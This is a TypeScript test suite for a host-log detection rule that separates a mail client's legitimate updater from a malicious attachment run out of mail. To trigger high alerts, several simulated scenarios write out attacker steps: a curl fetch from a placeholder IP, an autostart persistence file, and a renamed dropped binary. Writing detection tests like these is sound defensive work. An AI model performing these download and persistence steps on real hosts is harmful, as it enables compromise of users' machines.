import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, SECOND } from './host-log.test-support.ts';
import { atMostAt, factorsOf, firesAt, scanLog, storyOf } from './stories.test-support.ts';

/** A client that writes a program of its own and runs it, and what an attacker would make look so. */
const CLIENT = '/opt/thunderbird/thunderbird';
const HELPER = '/home/clerk/.cache/thunderbird/updates/0/updater';
const WORDS = '3 /home/clerk/.cache/thunderbird/updates/0 /opt/thunderbird /opt/thunderbird 12345';
const OWN = 'a mail client runs its own helper on its own installation';

interface Facts {
  readonly log: HostLog;
  readonly client: Process;
}

/** The client in a folder that belongs to the clerk has read a message and fetched a file. */
function client(owner = 1003, exe = CLIENT): Facts {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  const message = log.deliver();
  log.wait(SECOND);
  log.records.node(exe, owner).uid = owner;
  const process = log.desktop('clerk').run(exe).read(message.path);
  process.connect('203.0.113.81', 443).write('/home/clerk/.cache/thunderbird/updates/0/update.mar');
  return { log, client: process };
}

test('the updater of a client, run by the client on its own installation, is no attachment', async () => {
  const { log, client: by } = client();
  by.write(HELPER);
  by.run(`${HELPER} ${WORDS}`);
  const alerts = await scanLog(log);
  atMostAt(alerts, 'low');
  const { severity } = storyOf(alerts, 'AN0656');
  assert.equal(severity, 'informational');
  assert.ok(factorsOf(storyOf(alerts, 'AN0656')).includes(OWN));
});

test('the client that the updater starts anew connects, and had run before: low at most', async () => {
  const { log, client: by } = client();
  by.write(HELPER);
  log.wait(SECOND);
  by.run(`${HELPER} ${WORDS}`).run(CLIENT).connect('198.51.100.7', 993);
  const story = storyOf(await scanLog(log), 'AN0656');
  assert.equal(story.severity, 'low');
});

test('and so where root keeps the client, and it writes beside what people save', async () => {
  const { log, client: by } = client(0);
  by.write('/home/clerk/updater');
  by.run('/home/clerk/updater --install /opt/thunderbird/omni.ja');
  assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'informational');
});

for (const [how, of, severity] of [
  ['its words name the client', WORDS, 'informational'],
  ['they name nothing of it', '/home/clerk/a', 'low'],
] as const)
  test(`where no record tells who wrote it, ${how}: ${severity}`, async () => {
    const log = new HostLog({ files: false });
    log.deliver();
    log.wait(SECOND);
    log.records.node(CLIENT, 1003).uid = 1003;
    log.desktop('clerk').run(CLIENT).run(`${HELPER} ${of}`);
    assert.equal(storyOf(await scanLog(log), 'AN0656').severity, severity);
  });

const ATTACHMENTS: Readonly<Record<string, (facts: Facts) => void>> = {
  'run by the client, which says nothing of itself': ({ client: by }) => {
    by.write(HELPER);
    by.run(HELPER);
  },
  'run by the client on a file of its user': ({ client: by }) => {
    by.write(HELPER);
    by.run(`${HELPER} /home/clerk/.cache/thunderbird/updates/0/update.mar /opt/thunderbird2`);
  },
  'run by a shell that the client started': ({ client: by }) => {
    by.write(HELPER);
    by.run(['/bin/sh', '-c', 'x']).run(`${HELPER} ${WORDS}`);
  },
  'run by its user, with the words of an updater': ({ log, client: by }) => {
    by.write(HELPER);
    log.shell('clerk').run(`${HELPER} ${WORDS}`);
  },
  'moved by another program since': ({ log, client: by }) => {
    by.write(HELPER);
    log.shell('clerk').rename(HELPER, '/home/clerk/u');
    by.run(`/home/clerk/u ${WORDS}`);
  },
  'that connects itself': ({ client: by }) => {
    by.write(HELPER);
    by.run(`${HELPER} ${WORDS}`).connect('203.0.113.66', 443);
  },
  'that leaves something behind': ({ client: by }) => {
    by.write(HELPER);
    by.run(`${HELPER} ${WORDS}`).write('/home/clerk/.config/autostart/u.desktop');
  },
  'that starts a shell which connects': ({ client: by }) => {
    by.write(HELPER);
    by.run(`${HELPER} ${WORDS}`).run('/usr/bin/curl http://203.0.113.66/x').connect('203.0.113.66', 80);
  },
};

for (const [how, act] of Object.entries(ATTACHMENTS))
  test(`an attachment ${how} is told as high`, async () => {
    const facts = client();
    act(facts);
    firesAt(await scanLog(facts.log), 'AN0656', 'high');
  });

for (const [whose, owner, exe] of [
  ['of somebody else', 1004, CLIENT],
  ['in a home', 1003, '/home/clerk/thunderbird/thunderbird'],
  ['among all other programs', 1003, '/usr/local/bin/thunderbird'],
  ['that is no mail client', 1003, '/opt/thunderbird/reader'],
] as const)
  test(`a program ${whose} has no helper: what came out of mail and is run on its folder is told as high`, async () => {
    const { log, client: by } = client(owner, exe);
    by.write('/home/clerk/updater');
    by.run(`/home/clerk/updater ${exe}`);
    firesAt(await scanLog(log), 'AN0656', 'high');
  });
